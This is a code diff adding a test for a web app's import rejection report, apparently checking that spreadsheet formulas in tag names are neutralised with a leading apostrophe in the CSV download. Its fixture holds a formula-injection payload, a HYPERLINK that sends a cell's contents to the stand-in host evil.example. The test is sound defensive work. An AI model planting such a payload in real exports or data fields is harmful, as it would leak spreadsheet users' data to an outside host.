@@ -57,3 +57,18 @@ def test_the_rejection_report_downloads_as_csv_for_viewers_only(client, line, tm
         ["2", "T", "stored as bad quality: Scan Timeout"],
         ["3", "timestamp", "not stored: unparseable timestamp 'nonsense'"],
     ]
+
+
+def test_a_tag_name_a_spreadsheet_would_run_is_quoted_in_the_rejection_report(
+    client, line, tmp_path, make_user
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    quoted = formula.replace('"', '""')
+    text = f'timestamp,tag,value\n2024-03-01T00:00:00Z,"{quoted}",1\n2024-03-01T00:00:00Z,"@SUM(1)",2\n'
+    job = _job(line, tmp_path, text)
+    history_import_job_run(job_id=job.pk)
+    make_user("auditor", username="aud")
+    client.login(username="aud", password="correct-horse-battery")
+    rows = list(csv.reader(io.StringIO(client.get(f"/api/imports/{job.pk}/rejections.csv").content.decode())))
+    assert [r[:2] for r in rows] == [["row", "column"], ["2", "'" + formula], ["3", "'@SUM(1)"]]
+    assert rows[1][2].startswith("not stored: unknown tag")
